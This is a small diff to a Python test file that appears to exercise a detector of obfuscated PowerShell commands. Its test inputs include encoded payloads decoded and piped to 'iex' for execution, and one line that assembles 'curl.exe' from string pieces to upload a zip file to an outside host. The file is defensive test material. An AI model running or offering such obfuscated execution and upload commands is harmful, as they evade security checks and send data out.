@@ -229,7 +229,7 @@ def test_pipes_are_followed() -> None:
         (f"(({','.join(hex(ord(each)) for each in SCRIPT)})|%{{[convert]::ToChar($_)}})-join''|iex", None),
         (f"('{' '.join(f'{ord(each):x}' for each in SCRIPT)}'-split' '|%{{[char][byte]\"0x$_\"}})-join''|iex", None),
         (
-            f"('{' '.join(f'{ord(each):b}' for each in SCRIPT)}'-split' '|%{{[char][convert]::ToByte($_,2)}})-join''|iex",
+            f"('{' '.join(map('{:b}'.format, SCRIPT.encode()))}'-split' '|%{{[char][convert]::ToByte($_,2)}})-join''|iex",
             None,
         ),
         ("$a,$b='curl','.exe'; & ($a+$b) -T C:\\a.zip http://h/", "string building"),
